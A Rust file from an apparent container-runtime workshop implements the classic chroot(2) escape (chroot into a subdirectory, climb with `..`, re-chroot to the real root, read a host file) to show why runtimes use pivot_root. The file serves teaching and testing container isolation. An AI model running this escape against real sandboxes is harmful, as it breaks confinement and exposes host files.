// Part of chapter 3, given complete (no todo!() here): read it, your other files use it. Generated from crates/container/src/rootfs/escape.rs by `cargo xtask exercises`;
// `cargo workshop reset 3` gives you a fresh copy.
//! The classic escape from a chroot(2), kept here to show, for real, why a container
//! runtime uses pivot_root(2). Not used by the runtime: the tests and the chapter's demo
//! run it after each way of changing the root. Chapter 3. Read chroot(2) ("This call
//! does not change the current working directory") and pivot_root(2).

use std::fs;
use std::io;
use std::path::Path;

use nix::errno::Errno;
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, getpid, mkdir};

/// Tries to climb out of the current root directory and read `marker`, a path on the
/// host. Returns its contents if the escape reached it, `None` if it is not there.
///
/// The trick needs CAP_SYS_CHROOT, which root in a container has unless chapter 5 drops
/// it: chroot into a subdirectory *without* changing directory, so the working directory
/// is now outside the root; `..` only stops at the root directory itself, which the walk
/// never meets; at the top, chroot(".") makes the real `/` the root again.
pub fn try_chroot_escape(marker: &Path) -> io::Result<Option<Vec<u8>>> {
    // Any directory will do; /tmp is the one an unprivileged container can write to.
    let base = if Path::new("/tmp").is_dir() { "/tmp" } else { "" };
    let dir = format!("{base}/.bigbang-escape-{}", getpid());
    match mkdir(dir.as_str(), Mode::from_bits_truncate(0o700)) {
        Ok(()) | Err(Errno::EEXIST) => {}
        Err(errno) => return Err(errno.into()),
    }
    chroot(dir.as_str())?;
    for _ in 0..256 {
        chdir("..")?;
    }
    chroot(".")?;
    match fs::read(marker) {
        Ok(contents) => Ok(Some(contents)),
        Err(err) if err.kind() == io::ErrorKind::NotFound => Ok(None),
        Err(err) => Err(err),
    }
}
